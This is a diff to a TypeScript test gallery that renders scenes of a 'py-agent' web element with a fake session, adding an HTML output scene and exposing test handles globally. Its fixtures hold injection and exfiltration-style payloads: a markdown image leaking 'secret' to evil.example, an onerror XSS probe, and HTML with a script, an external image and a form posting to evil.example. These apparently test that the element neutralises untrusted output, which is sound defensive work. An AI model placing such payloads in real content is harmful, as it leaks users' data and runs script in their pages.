@@ -1,6 +1,7 @@
 /**
- * Every state of the element, with a fake session: `gallery.html#<scene>`. For development only:
- * `node tests/web/gallery.mjs` serves it.
+ * Every state of the element, with a fake session: `gallery.html#<scene>`. For looking at it and
+ * for tests/e2e/test_element.py; `node tests/web/gallery.mjs` serves it. What a test needs to play
+ * the agent is at hand as `session`, `agent` and `say`.
  */
 import type { PyAgent } from "../../web/src/element/py-agent";
 import "../../web/src/main";
@@ -130,6 +131,10 @@ print("hello")  # comment
 
 ![remote](https://evil.example/leak.png?d=secret) <img src=x onerror=alert(1)>`;
 
+const HTML = `<h1>A page</h1><p style="color: teal">Styled.</p>
+<script>parent.postMessage("ran", "*")</script><img src="https://evil.example/html.png">
+<form action="https://evil.example"><button>Send</button></form>`;
+
 type Scene = (agent: PyAgent, session: FakeSession) => void | Promise<void>;
 const DEMO = { kind: "demo" };
 const ENDPOINT = {
@@ -192,6 +197,16 @@ const scenes: Record<string, { stored: object; scene: Scene }> = {
   markdown: {
     stored: ENDPOINT,
     scene: play([say.started(TASK), say.finished({ output: MARKDOWN })]),
+  },
+  html: {
+    stored: ENDPOINT,
+    scene: play([
+      say.started(TASK),
+      say.step(1),
+      say.shown(1, { "text/plain": "page", "text/html": HTML }),
+      say.ended(1),
+      say.finished({ output: "See the page." }),
+    ]),
   },
   table: {
     stored: ENDPOINT,
@@ -273,12 +288,16 @@ const scenes: Record<string, { stored: object; scene: Scene }> = {
   "settings-demo": { stored: DEMO, scene: settingsAt("demo") },
 };
 
-const { stored, scene } = scenes[location.hash.slice(1)] ?? scenes.welcome!;
-localStorage.setItem("pyagent.settings", JSON.stringify(stored));
+const { stored, scene } = scenes[location.hash.slice(1)] ?? {
+  stored: null,
+  scene: scenes.welcome!.scene,
+};
+if (stored) localStorage.setItem("pyagent.settings", JSON.stringify(stored));
 const session = new FakeSession();
 const agent = document.createElement("py-agent");
 agent.sessionFactory = () => session;
 document.body.append(agent);
+Object.assign(globalThis, { agent, session, say });
 if (stored === ENDPOINT && !location.hash.endsWith("nokey")) {
   await agent.configure({ model: { ...ENDPOINT.endpoint, apiKey: "sk-example" } });
 }
